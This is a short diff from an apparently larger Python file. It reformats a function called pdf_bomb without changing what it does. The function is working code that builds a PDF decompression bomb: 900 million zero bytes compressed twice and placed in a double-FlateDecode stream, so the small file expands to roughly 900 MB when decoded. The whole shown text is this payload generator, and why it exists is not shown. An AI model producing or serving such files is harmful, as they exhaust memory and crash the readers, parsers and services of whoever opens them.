@@ -216,14 +216,10 @@ LAUGHS = (
 
 
 def pdf_bomb():
-    made = bytearray(
-        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
-    )
+    made = bytearray(b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n")
     made += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
     inner = zlib.compress(zlib.compress(b"\0" * 900_000_000, 9), 9)
-    made += (
-        b"4 0 obj<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(inner) + inner + b"\nendstream endobj\n"
-    )
+    made += b"4 0 obj<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(inner) + inner + b"\nendstream endobj\n"
     return bytes(made + b"trailer<</Root 1 0 R>>\n%%EOF")
 
 
